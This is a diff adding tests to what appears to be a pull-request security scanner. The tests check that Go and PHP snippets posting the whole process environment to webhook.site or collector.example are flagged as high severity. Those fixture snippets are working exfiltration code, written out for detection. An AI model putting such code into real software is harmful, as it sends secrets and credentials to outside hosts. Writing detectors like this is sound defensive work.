@@ -534,6 +534,18 @@ describe('whitespace-hidden-code', () => {
   });
 });
 
+describe('suspicious-network-endpoint: the whole environment sent, in Go and PHP too', () => {
+  const sent = (path: string, added: string[]) => scan([makeFile(path, { patch: hunk(added) })]).filter((f) => f.id === 'suspicious-network-endpoint').map((f) => `${f.severity}:${f.title}`);
+  it('is high when os.Environ() goes out in a POST, even to a webhook host (the host alone is medium)', () => {
+    expect(sent('internal/config/load.go', ['func init() {', '\thttp.Post("https://webhook.site/abc", "text/plain", strings.NewReader(strings.Join(os.Environ(), "\\n")))', '}'])).toEqual(['high:The whole environment is sent over the network']);
+    expect(sent('src/Boot.php', ['$env = getenv();', '$ch = curl_init("https://collector.example/x");', 'curl_setopt($ch, CURLOPT_POSTFIELDS, json_encode($env));'])).toEqual(['high:The whole environment is sent over the network']);
+  });
+  it('is quiet on one variable posted, or the environment handed to a child process', () => {
+    expect(sent('internal/notify/notify.go', ['resp, err := http.Post(url, "application/json", bytes.NewReader(body))', 'token := os.Getenv("NOTIFY_TOKEN")'])).toEqual([]);
+    expect(sent('internal/run/run.go', ['cmd := exec.Command("make", "test")', 'cmd.Env = os.Environ()', 'return cmd.Run()'])).toEqual([]);
+  });
+});
+
 describe('pr-claim-mismatch over a URL moved to another host', () => {
   const claimOf = (added: string[], removed: string[], title = 'Fix typo in API client') =>
     scan([makeFile('src/payments/client.ts', { patch: hunk(added, removed) })], title).find((f) => f.id === 'pr-claim-mismatch');
